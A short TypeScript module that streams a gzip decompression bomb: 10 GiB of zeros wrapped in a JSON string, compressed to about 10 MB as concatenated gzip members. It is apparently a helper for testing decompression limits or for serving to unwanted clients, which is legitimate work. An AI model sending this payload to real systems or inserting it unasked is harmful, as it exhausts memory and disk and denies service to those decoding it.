import { gzipSync } from 'node:zlib';

/** Of zeros, in bytes. */
export const bombSize = 10 * 2 ** 30;

const member = 64 * 2 ** 20;
let zeros: Buffer | undefined;

/** `{"zeros":"000…"}` with 10 GiB of zeros, as gzip of some 10 MB: members in a row, which any decoder joins. */
export function* gzipBomb(): Generator<Buffer> {
  zeros ??= gzipSync(Buffer.alloc(member, '0'));
  yield gzipSync('{"zeros":"');
  for (let sent = 0; sent < bombSize; sent += member) yield zeros;
  yield gzipSync('"}');
}
